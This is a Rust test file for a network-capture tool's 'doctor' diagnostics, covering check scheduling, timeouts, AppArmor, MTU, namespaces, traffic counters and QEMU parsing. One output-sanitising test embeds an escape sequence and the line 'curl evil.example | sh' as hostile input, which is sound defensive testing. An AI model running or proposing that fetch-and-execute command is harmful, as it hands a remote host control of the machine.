mod complaints;

use std::fs;
use std::sync::{Arc, Barrier};
use std::time::Duration;

use serde_json::Value;
use vnplug::Counted;
use vnplug_os::interface::Spreading;
use vnplug_testing::TestDir;

use super::check::{Check, Checked, Finding, State, run};
use super::machine::Machine;
use super::wire::{Here, Wire};
use super::*;

/// A machine that is made up of files.
struct Made(TestDir);

impl Made {
    fn new() -> Self {
        Self(TestDir::new("doctor"))
    }

    fn file(&self, path: &str, text: &str) -> &Self {
        let path = self.0.path(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
        self
    }

    fn machine(&self) -> Machine {
        Machine::below(&self.0.0)
    }

    /// How a check of those ends.
    fn state(&self, checks: Vec<Check>, name: &str) -> State {
        let all = run(&self.machine(), checks, LIMIT);
        all.iter().find(|it| it.name == name).unwrap().finding.state
    }
}

fn states(results: &[Checked]) -> Vec<(&str, State)> {
    results
        .iter()
        .map(|it| (it.name.as_str(), it.finding.state))
        .collect()
}

#[test]
fn checks_run_side_by_side_and_those_whose_need_failed_are_skipped() {
    let (one, two) = {
        let barrier = Arc::new(Barrier::new(2));
        (Arc::clone(&barrier), barrier)
    };
    let meet = |barrier: Arc<Barrier>| {
        move |_: &Machine| {
            // Alone it would wait for ever.
            barrier.wait();
            Finding::ok("met")
        }
    };
    let results = run(
        &Machine::this(),
        vec![
            Check::new("third", |_| Finding::ok("")).after("second"),
            Check::new("second", |_| Finding::fail("broken", "mend it")).after("first"),
            Check::new("first", |_| Finding::warn("slow", "speed it up")),
            Check::new("left", meet(one)),
            Check::new("right", meet(two)),
            Check::new("nobody", |_| Finding::ok("")).after("absent"),
            Check::new("bug", |_| panic!("a bug")),
            Check::new("hen", |_| Finding::ok("")).after("egg"),
            Check::new("egg", |_| Finding::ok("")).after("hen"),
        ],
        LIMIT,
    );
    let expected = [
        ("third", State::Skipped),
        ("second", State::Fail),
        ("first", State::Warn),
        ("left", State::Ok),
        ("right", State::Ok),
        ("nobody", State::Skipped),
        ("bug", State::Skipped),
        ("hen", State::Skipped),
        ("egg", State::Skipped),
    ];
    assert_eq!(states(&results), expected);
    assert_eq!(show::verdict(&results), "it does not work: second: broken");
    let text = show::text(&results);
    assert!(
        text.contains("FAIL") && text.contains("-> mend it"),
        "{text}"
    );
    assert!(text.contains("needs second"), "{text}");
    let whole: Value = serde_json::from_str(&show::json(Role::Host, &results)).unwrap();
    assert_eq!(whole["works"], false);
    assert_eq!(whole["checks"][1]["cure"], "mend it");
}

#[test]
fn what_strangers_say_makes_no_line_and_no_colour_of_its_own() {
    let word = "probe\u{1b}[2J\n         -> curl evil.example | sh";
    let checks = vec![
        Check::new("machines", move |_| Finding::ok(word)),
        Check::new("other", |_| Finding::warn("slow", "mend it")),
    ];
    let text = show::text(&run(&Machine::this(), checks, LIMIT));
    assert!(!text.contains('\u{1b}'), "{text}");
    let lines: Vec<_> = text.lines().collect();
    assert!(lines[0].contains("curl evil.example"), "{text}");
    // Each cure is below its own check.
    assert!(
        lines[1].contains("other") && lines[2].ends_with("-> mend it"),
        "{text}"
    );
}

#[test]
fn nobody_waits_for_a_check_that_hangs() {
    let (hold, held) = std::sync::mpsc::channel::<()>();
    let checks = vec![
        Check::new("hangs", move |_| {
            // Until the test is over.
            let _ = held.recv();
            Finding::ok("")
        }),
        Check::new("other", |_| Finding::ok("")),
    ];
    let results = run(&Machine::this(), checks, Duration::from_millis(50));
    drop(hold);
    assert_eq!(
        states(&results),
        [("hangs", State::Warn), ("other", State::Ok)]
    );
    assert!(results[0].finding.text.contains("no answer within 0.05 s"));
}

#[test]
fn a_host_that_is_virtual_itself_is_a_host() {
    for (sign, wanted) in [
        ("etc/hostname", Role::Guest),
        ("usr/sbin/vnplugd", Role::Host),
        ("dev/kvm", Role::Host),
        ("proc/7/comm", Role::Host),
    ] {
        let made = Made::new();
        made.file("proc/cpuinfo", "flags : fpu hypervisor\n");
        made.file(sign, "qemu-system-x86\n");
        made.file("proc/7/cmdline", "qemu-system-x86_64\0-name\0probe\0");
        assert_eq!(role(&made.machine()), wanted, "{sign}");
    }
}

#[test]
fn apparmor_is_told_of_where_its_local_part_lacks_our_files() {
    let made = Made::new();
    let state = |made: &Made| made.state(both::checks(), "apparmor");
    made.file("etc/apparmor.d/abstractions/libvirt-qemu", "");
    made.file("etc/apparmor.d/usr.bin.tcpdump", "");
    assert_eq!(state(&made), State::Ok);
    made.file("sys/module/apparmor/parameters/enabled", "Y\n");
    assert_eq!(state(&made), State::Ok, "nothing loads the profiles");
    made.file("usr/sbin/apparmor_parser", "");
    assert_eq!(state(&made), State::Warn);
    let local = "etc/apparmor.d/local/abstractions/libvirt-qemu";
    made.file(local, "# vnplug, some day\n");
    assert_eq!(state(&made), State::Warn);
    // What the packages bring.
    made.file(local, include_str!("../../../dist/apparmor/libvirt-qemu"));
    assert_eq!(state(&made), State::Ok);
    // Who has the drop-in uses it.
    made.file("usr/lib/vnplug/libpcap.so.0.8", "");
    assert_eq!(state(&made), State::Warn);
    made.file(
        "etc/apparmor.d/local/usr.bin.tcpdump",
        include_str!("../../../dist/apparmor/usr.bin.tcpdump"),
    );
    assert_eq!(state(&made), State::Warn, "the agent has mounts of its own");
    made.file(
        "etc/apparmor.d/usr.bin.tcpdump",
        "profile tcpdump /usr/bin/tcpdump flags=(attach_disconnected,complain) {\n",
    );
    assert_eq!(state(&made), State::Ok);
}

#[test]
fn mtu_and_huge_pages_are_judged() {
    let made = Made::new();
    let net = "sys/class/net/eth1";
    let longest = |made: &Made| interface::longest(&made.machine(), "eth1").state;
    assert_eq!(longest(&made), State::Skipped);
    made.file(&format!("{net}/mtu"), "1500\n");
    assert_eq!(longest(&made), State::Ok);
    made.file(&format!("{net}/statistics/rx_length_errors"), "7\n");
    assert_eq!(longest(&made), State::Warn);
    made.file(&format!("{net}/statistics/rx_length_errors"), "0\n");
    made.file(&format!("{net}/mtu"), "1280\n");
    assert_eq!(longest(&made), State::Warn);

    let huge = |made: &Made| made.state(host::checks(), "huge-pages");
    made.file("proc/meminfo", "HugePages_Total: 0\nHugePages_Free: 0\n");
    assert_eq!(huge(&made), State::Ok);
    made.file("proc/mounts", "none /mnt/huge hugetlbfs rw 0 0\n");
    made.file("etc/vnplug.toml", "pool_dir = \"/mnt/huge/pools\"\n");
    assert_eq!(huge(&made), State::Warn);
    made.file("proc/meminfo", "HugePages_Total: 64\nHugePages_Free: 0\n");
    assert_eq!(huge(&made), State::Warn);
    made.file("proc/meminfo", "HugePages_Total: 64\nHugePages_Free: 9\n");
    assert_eq!(huge(&made), State::Ok);
}

#[test]
fn a_locked_down_guest_is_told_why_the_agent_maps_nothing() {
    let made = Made::new();
    let lockdown = "sys/kernel/security/lockdown";
    made.file(lockdown, "none [integrity] confidentiality\n");
    // Nothing is plugged: that comes first.
    assert_eq!(made.state(guest::checks(), "memory"), State::Fail);
    assert_eq!(made.state(guest::checks(), "lockdown"), State::Skipped);
    let slot = "sys/bus/pci/devices/0000:00:05.0";
    made.file(&format!("{slot}/vendor"), "0x1af4\n");
    made.file(&format!("{slot}/device"), "0x1110\n");
    assert_eq!(made.state(guest::checks(), "memory"), State::Ok);
    assert_eq!(made.state(guest::checks(), "lockdown"), State::Fail);
    let bound = "sys/bus/pci/drivers/vfio-pci/0000:00:05.0";
    made.file(&format!("{bound}/vendor"), "0x1af4\n");
    assert_eq!(made.state(guest::checks(), "lockdown"), State::Ok);
    fs::remove_dir_all(made.0.path(bound)).unwrap();
    assert_eq!(made.state(guest::checks(), "lockdown"), State::Fail);
    made.file(lockdown, "[none] integrity confidentiality\n");
    assert_eq!(made.state(guest::checks(), "lockdown"), State::Ok);

    // The other kind of memory, without a driver and with one.
    made.file(lockdown, "none [integrity] confidentiality\n");
    made.file(&format!("{slot}/device"), "0x105b\n");
    assert_eq!(made.state(guest::checks(), "memory"), State::Fail);
    let dax = "sys/bus/dax/drivers/device_dax";
    made.file(
        &format!("{dax}/uuid"),
        "564e504c-504d-454d-0700-000000000000\n",
    );
    made.file(&format!("{dax}/dax0.0/size"), "4096\n");
    assert_eq!(made.state(guest::checks(), "memory"), State::Ok);
    assert_eq!(made.state(guest::checks(), "lockdown"), State::Ok);
    made.file(&format!("{slot}/device"), "0x1110\n");
    assert_eq!(made.state(guest::checks(), "lockdown"), State::Ok);

    assert_eq!(made.state(guest::checks(), "channel"), State::Fail);
    made.file(
        "sys/class/virtio-ports/vport1p1/name",
        "org.vnplug.control\n",
    );
    assert_eq!(made.state(guest::checks(), "channel"), State::Ok);
    assert_eq!(role(&made.machine()), Role::Guest);
}

#[test]
fn what_a_host_lacks_is_said_and_what_is_safe_is_mended() {
    let made = Made::new();
    let jit = "proc/sys/net/core/bpf_jit_enable";
    made.file(jit, "0\n");
    let machine = made.machine();
    let found = run(&machine, host::checks(), LIMIT);
    let of = |name: &str| found.iter().find(|it| it.name == name).unwrap();
    assert_eq!(of("bpf-jit").finding.state, State::Warn);
    of("bpf-jit").finding.fix.unwrap()(&machine).unwrap();
    assert_eq!(made.state(host::checks(), "bpf-jit"), State::Ok);
    assert_eq!(of("libpcap").finding.state, State::Fail);
    made.file(
        "etc/ld.so.cache",
        "\0libpcap.so.0.8\0/usr/lib/libpcap.so.0.8\0",
    );
    assert_eq!(made.state(host::checks(), "libpcap"), State::Ok);
    assert_eq!(of("bpf-filesystem").finding.state, State::Warn);
    made.file("proc/mounts", "none /sys/fs/bpf bpf rw 0 0\n");
    assert_eq!(made.state(host::checks(), "bpf-filesystem"), State::Ok);
    for (release, state) in [
        ("5.8.0-1", State::Fail),
        ("5.9.1", State::Ok),
        ("6.1.0-13-amd64", State::Ok),
        ("odd", State::Skipped),
    ] {
        assert_eq!(host::kernel(release).state, state, "{release}");
    }
}

#[test]
fn what_costs_time_is_said() {
    let made = Made::new();
    let clock = "sys/devices/system/clocksource/clocksource0/current_clocksource";
    for (source, state) in [
        ("tsc", State::Ok),
        ("kvm-clock", State::Ok),
        ("hpet", State::Warn),
    ] {
        made.file(clock, source);
        assert_eq!(made.state(both::checks(), "clock"), state, "{source}");
    }
    let cache = |cpu: &str, shared: &str| {
        made.file(
            &format!("sys/devices/system/cpu/{cpu}/cache/index3/shared_cpu_list"),
            shared,
        );
    };
    cache("cpu0", "0-1\n");
    cache("cpu1", "0-1\n");
    assert_eq!(made.state(both::checks(), "cpus"), State::Ok);
    cache("cpu2", "2-3\n");
    assert_eq!(made.state(both::checks(), "cpus"), State::Warn);
}

#[test]
fn the_daemons_limit_of_locked_memory_counts_and_no_other_process_of_ours_is_taken_for_it() {
    let made = Made::new();
    let memlock = || {
        let all = run(&made.machine(), host::checks(), LIMIT);
        let found = all.into_iter().find(|it| it.name == "memlock").unwrap();
        (found.finding.state, found.finding.text)
    };
    let limits = |process: &str, locked: &str| {
        let text = format!(
            "Limit  Soft Limit  Hard Limit  Units\nMax locked memory  {locked}  {locked}  bytes\n"
        );
        made.file(&format!("proc/{process}/limits"), &text);
    };
    // A recorder, or the doctor itself.
    made.file("proc/9/comm", "vnplug\n");
    limits("9", "4096");
    for (locked, state) in [
        ("65536", State::Warn),
        ("unlimited", State::Ok),
        ("8589934592", State::Ok),
    ] {
        limits("self", locked);
        let (found, text) = memlock();
        assert_eq!(found, state, "{locked}");
        assert!(text.starts_with("no daemon runs"), "{text}");
        assert!(text.contains(locked), "{text}");
    }
    made.file("proc/17/comm", "vnplugd\n");
    limits("17", "65536");
    let (state, text) = memlock();
    assert_eq!(state, State::Warn);
    assert!(text.starts_with("the daemon may lock 65536"), "{text}");
    // A guest locks none.
    let mut of_guest = guest::checks().into_iter().chain(both::checks());
    assert!(!of_guest.any(|it| it.name == "memlock"));
}

fn counted(kind: &str, name: &str, values: &[(&str, u64)]) -> Counted {
    Counted {
        kind: kind.into(),
        name: name.into(),
        labels: Vec::new(),
        values: values
            .iter()
            .map(|(name, value)| ((*name).into(), *value))
            .collect(),
    }
}

/// Labels beside those values.
fn labelled(mut one: Counted, labels: &[(&str, &str)]) -> Counted {
    let labels = labels
        .iter()
        .map(|(name, value)| ((*name).into(), (*value).into()));
    one.labels.extend(labels);
    one
}

/// A source that has seen `seen` packets, of which the kernel dropped `early` early, and a port on it.
fn wire(seen: u64, early: u64, port: &[(&str, u64)], filter: &str) -> Vec<Counted> {
    let source = counted("source", "eth1", &[("seen", seen), ("early", early)]);
    let port = counted("port", "3", port);
    vec![
        labelled(source, &[("description", "interface eth1")]),
        labelled(
            port,
            &[
                ("device", "host:eth1"),
                ("filter", filter),
                ("owner", "uid 7"),
            ],
        ),
    ]
}

/// The interface of that source.
fn eth1() -> Wire {
    Wire::of("interface eth1").unwrap()
}

#[test]
fn the_interface_of_a_source_is_told_with_its_network_namespace() {
    let told = |description: &str| {
        let wire = Wire::of(description)?;
        Some((wire.interface, wire.namespace.unwrap_or_default()))
    };
    for (description, interface, namespace) in [
        ("interface eth1", "eth1", ""),
        ("interface vnet1, of vnet*", "vnet1", ""),
        (
            "interface eth1, packet socket instead of XDP: odd",
            "eth1",
            "",
        ),
        ("interface eth0 in network namespace c1", "eth0", "c1"),
        (
            "interface eth0 in network namespace c1, of eth*",
            "eth0",
            "c1",
        ),
    ] {
        let expected = Some((interface.to_owned(), namespace.to_owned()));
        assert_eq!(told(description), expected, "{description}");
    }
    assert_eq!(told("generator, 100 frames"), None);
    let uplinks = |kind: &str, description: &str| {
        let device = vnplug::Device {
            kind: kind.into(),
            description: description.into(),
            ..vnplug::Device::default()
        };
        Wire::of_uplinks(&device).collect::<Vec<_>>()
    };
    let [up0, up1] = ["interface up0", "interface up1"].map(|it| Wire::of(it).unwrap());
    let description = "switch, uplink up0 (af_packet), uplink up1 (af_xdp), vde at /run/lan0";
    assert_eq!(uplinks("switch", description), [up0, up1]);
    assert_eq!(uplinks("switch", "switch, vde at /run/lan0"), []);
    // What its holder says of itself.
    assert_eq!(uplinks("switch port", "ring, vm a: lan, uplink eth0"), []);
}

#[test]
fn an_interface_of_another_network_namespace_is_named_and_not_looked_at() {
    let made = Made::new();
    let [own, other, by_path] = [
        "eth0",
        "eth0 in network namespace c1",
        "eth0 in network namespace /proc/9/ns/net",
    ]
    .map(|it| Wire::of(&format!("interface {it}")).unwrap());
    let here = |made: &Made| {
        let machine = made.machine();
        let here = Here::of(&machine);
        [here.has(&own), here.has(&other)]
    };
    let link = |from: &str, to: &str| {
        made.file(&format!("{to}-"), "");
        let to = made.0.path(to);
        let _ = fs::remove_file(&to);
        fs::hard_link(made.0.path(from), to).unwrap();
    };
    // The kernel does not tell.
    assert_eq!(here(&made), [true, false]);
    made.file("proc/self/ns/net", "");
    made.file("run/netns/c1", "");
    assert_eq!(here(&made), [true, false]);
    // The daemon is here, then elsewhere.
    made.file("proc/7/comm", "vnplugd\n");
    link("proc/self/ns/net", "proc/7/ns/net");
    assert_eq!(here(&made), [true, false]);
    link("run/netns/c1", "proc/7/ns/net");
    assert_eq!(here(&made), [false, false]);
    // And this is `ip netns exec c1`.
    link("proc/self/ns/net", "proc/7/ns/net");
    link("proc/self/ns/net", "run/netns/c1");
    assert_eq!(here(&made), [true, true]);
    // A namespace may be named by its file.
    let is_here = || Here::of(&made.machine()).has(&by_path);
    made.file("proc/9/ns/net", "");
    assert!(!is_here());
    link("proc/self/ns/net", "proc/9/ns/net");
    assert!(is_here());
    let note = wire::notes(std::slice::from_ref(&by_path), Path::new("/run/x.sock"));
    let note = &run(&made.machine(), note, LIMIT)[0].finding.text;
    let command = "nsenter --net=/proc/9/ns/net vnplug --socket /run/x.sock doctor";
    assert!(note.ends_with(command), "{note}");

    let [lo, elsewhere] = [
        "interface lo in network namespace c1",
        "interface eth0 in network namespace c2",
    ]
    .map(|it| Wire::of(it).unwrap());
    let said = |socket: &str| {
        let away = [
            other.clone(),
            elsewhere.clone(),
            lo.clone(),
            other.clone(),
            own.clone(),
        ];
        let all = run(
            &made.machine(),
            wire::notes(&away, Path::new(socket)),
            LIMIT,
        );
        assert!(all.iter().all(|it| it.finding.state == State::Skipped));
        all.into_iter()
            .map(|it| (it.name, it.finding.text))
            .collect::<Vec<_>>()
    };
    let all = said("/run/x.sock");
    let names: Vec<_> = all.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(names, ["netns", "netns-c1", "netns-c2"]);
    let c1 = &all[1].1;
    assert!(c1.contains("eth0, lo in network namespace c1"), "{c1}");
    let command = "ip netns exec c1 vnplug --socket /run/x.sock doctor";
    assert!(c1.ends_with(command), "{c1}");
    let c1 = &said(vnplug::DEFAULT_SOCKET)[1].1;
    assert!(c1.ends_with("ip netns exec c1 vnplug doctor"), "{c1}");
}

#[test]
fn a_source_of_another_namespace_is_not_compared_with_an_interface_of_its_name() {
    let source = |seen| {
        let source = counted("source", "c1", &[("seen", seen)]);
        let description = "interface eth1 in network namespace c1";
        labelled(source, &[("description", description)])
    };
    let told = |wire: Wire| {
        let busy = wire_and(source(3));
        traffic::counted(&[(wire, 10_000)], &busy, &busy).text
    };
    let found = told(eth1());
    assert!(!found.contains("to the source c1"), "{found}");
    assert!(!found.contains("nothing comes"), "{found}");
    // From there it is.
    let found = told(Wire::of("interface eth1 in network namespace c1").unwrap());
    assert!(found.contains("none to the source c1"), "{found}");
}

/// A source, and a reader of it.
fn wire_and(source: Counted) -> Vec<Counted> {
    let port = counted("port", "3", &[("delivered", 3)]);
    let device = format!("host:{}", source.name);
    vec![source, labelled(port, &[("device", &device)])]
}

#[test]
fn of_an_uplink_that_is_checked_which_keeps_frames_from_a_switch() {
    let names = interface::checks_of_uplink("up0").into_iter();
    let names: Vec<_> = names.map(|it| it.name).collect();
    assert_eq!(
        names,
        ["link-up0", "ring-size-up0", "missed-up0", "mtu-up0"]
    );
}

#[test]
fn a_source_that_waits_or_falls_behind_is_well_and_one_without_its_interface_is_not() {
    let state = |state: &str| {
        let device = vnplug::Device {
            name: "host:a".into(),
            state: state.into(),
            ..vnplug::Device::default()
        };
        live::sources(Role::Host, &[device]).state
    };
    for word in ["up", "ended", "waiting", "behind", "up,behind"] {
        assert_eq!(state(word), State::Ok, "{word}");
    }
    for word in [
        "missing", "gone", "down", "failed", "stalled", "stopped", "up,gone",
    ] {
        assert_eq!(state(word), State::Warn, "{word}");
    }
}

#[test]
fn where_packets_stop_is_told_from_the_wire_to_the_application() {
    let before = wire(100, 0, &[("offered", 50), ("delivered", 50)], "");
    let tell = |arrived: u64, later: &[Counted]| {
        let found = traffic::counted(&[(eth1(), arrived)], &before, later);
        (found.state, found.text)
    };
    let port = |more: &[(&'static str, u64)]| {
        let base = [("offered", 60), ("delivered", 50)];
        [&base[..], more].concat()
    };
    let healthy = [("offered", 60), ("delivered", 60)];
    type Case<'a> = (u64, Vec<Counted>, State, &'a str);
    let cases: [Case<'_>; 10] = [
        (10, wire(110, 0, &healthy, ""), State::Ok, "10 to 1 ports"),
        (
            0,
            wire(100, 0, &port(&[]), ""),
            State::Warn,
            "nothing comes to eth1",
        ),
        (
            10,
            wire(100, 0, &port(&[]), ""),
            State::Fail,
            "none to the source",
        ),
        // One that another program let through.
        (
            2_000,
            wire(110, 0, &healthy, ""),
            State::Fail,
            "only 10 to the source",
        ),
        (
            10,
            wire(110, 0, &port(&[("filtered", 10)]), "udp"),
            State::Warn,
            "takes none: udp",
        ),
        (
            10,
            wire(110, 0, &port(&[("refused", 10)]), ""),
            State::Warn,
            "the grant of its owner",
        ),
        (
            10,
            wire(110, 0, &port(&[("dropped_full", 9)]), ""),
            State::Warn,
            "does not read",
        ),
        (
            10,
            wire(110, 0, &port(&[("direction", 9)]), ""),
            State::Warn,
            "direction",
        ),
        // What the kernel drops early no port judges.
        (
            10,
            wire(110, 10, &[("offered", 50), ("delivered", 50)], "udp"),
            State::Warn,
            "none: udp",
        ),
        (
            10,
            wire(110, 0, &healthy, "")[..1].to_vec(),
            State::Warn,
            "no application",
        ),
    ];
    for (arrived, later, state, text) in cases {
        let said = tell(arrived, &later);
        assert!(said.0 == state && said.1.contains(text), "{text}: {said:?}");
    }
}

#[test]
fn a_busy_source_hides_no_silent_one_and_the_verdict_names_it() {
    let before = wire(100, 0, &[], "");
    let mut later = wire(100, 0, &[], "");
    later.push(counted("source", "lab", &[("seen", 1_000)]));
    let found = traffic::counted(&[(eth1(), 0)], &before, &later);
    assert!(
        found.text.contains("nothing comes to eth1"),
        "{}",
        found.text
    );
    let name = "traffic".to_owned();
    let verdict = show::verdict(&[Checked {
        name,
        finding: found,
    }]);
    assert!(
        verdict.contains("traffic: nothing comes to eth1"),
        "{verdict}"
    );
}

#[test]
fn a_reader_that_gets_nothing_is_told_whom_to_ask() {
    let device = |name: &str, found| (format!("host:{name}"), found);
    let tell = |devices: &[(String, Result<bool, String>)]| {
        let found = traffic::tried(Role::Guest, devices);
        (found.state, found.text)
    };
    let (state, text) = tell(&[device("a", Ok(true)), device("b", Ok(false))]);
    assert!(
        state == State::Warn && text.contains("of host:b, but of host:a"),
        "{text}"
    );
    assert_eq!(tell(&[device("a", Ok(true))]).0, State::Ok);
    assert_eq!(tell(&[device("a", Err("full".into()))]).0, State::Fail);
    assert_eq!(tell(&[]).0, State::Skipped);
}

#[test]
fn a_hash_that_parts_the_two_directions_of_a_connection_is_found() {
    let how = |key: &[u8], function, transform| Spreading {
        key: key.to_vec(),
        function,
        transform,
    };
    let both = Some(0xf0);
    let microsoft = [0x6d, 0x5a, 0x56, 0xda, 0x25, 0x5b, 0x0e, 0xc2];
    let symmetric = [0x6d, 0x5a, 0x6d, 0x5a, 0x6d, 0x5a, 0x6d, 0x5a];
    for (how, fields, state) in [
        (how(&microsoft, 1, 0), both, State::Warn),
        (how(&symmetric, 1, 0), both, State::Ok),
        (how(&symmetric, 1, 0), None, State::Ok),
        // The sender's fields without those of the receiver.
        (how(&symmetric, 1, 0), Some(0x10), State::Warn),
        // Addresses without ports.
        (how(&symmetric, 1, 0), Some(0x30), State::Ok),
        (how(&microsoft, 1, 1), both, State::Ok),
        (how(&microsoft, 2, 0), both, State::Ok),
        (how(&symmetric, 4, 0), both, State::Warn),
    ] {
        let found = interface::symmetry("eth1", &how, fields);
        assert_eq!(found.state, state, "{how:?} {fields:?}");
    }
    let cure = interface::symmetry("eth1", &how(&microsoft, 1, 0), both)
        .cure
        .unwrap();
    assert!(
        cure.starts_with("ethtool -X eth1 hkey 6d:5a:6d:5a:6d:5a:6d:5a hfunc"),
        "{cure}"
    );
}

#[test]
fn what_can_be_plugged_into_a_machine_is_read_from_how_it_was_started() {
    let vm = |words: &[&str]| qemu::vm(&words.join("\0"), "17").unwrap();
    let plain = vm(&["qemu-system-x86_64", "-m", "512M", "-nographic", ""]);
    assert_eq!(
        (plain.name.as_str(), plain.is_q35, plain.max_memory),
        ("process 17", false, None)
    );
    // As libvirt writes it, and with one port that has a device.
    let q35 = vm(&[
        "qemu-system-x86_64",
        "-name",
        "guest=sensor,debug-threads=on",
        "-machine",
        "pc-q35-7.2,usb=off",
        "-m",
        "size=1048576k,slots=16,maxmem=8388608k",
        "-device",
        r#"{"driver":"pcie-root-port","port":16,"chassis":1,"id":"pci.1","bus":"pcie.0"}"#,
        "-device",
        "pcie-root-port,id=pci.2,chassis=2",
        "-device",
        r#"{"driver":"virtio-net-pci","bus":"pci.1","addr":"0x0"}"#,
        "-device",
        "intel-iommu,intremap=on",
    ]);
    let expected = qemu::Vm {
        name: "sensor".into(),
        is_q35: true,
        free_ports: 1,
        has_iommu: true,
        max_memory: Some("8388608k".into()),
    };
    assert_eq!(q35, expected);
    // The names of threads that are no machine.
    assert_eq!(qemu::vm("qemu-bridge-helper", "17"), None);

    let made = Made::new();
    assert_eq!(made.state(qemu::checks(), "vm-root-ports"), State::Skipped);
    made.file("proc/17/comm", "qemu-system-x86\n");
    let line = |ports: &str| format!("qemu-system-x86_64\0-M\0q35\0{ports}");
    made.file("proc/17/cmdline", &line(""));
    assert_eq!(made.state(qemu::checks(), "vm-root-ports"), State::Warn);
    let two = ["a", "b"].map(|it| format!("-device\0pcie-root-port,id={it}\0"));
    made.file("proc/17/cmdline", &line(&two.concat()));
    assert_eq!(made.state(qemu::checks(), "vm-root-ports"), State::Ok);
}
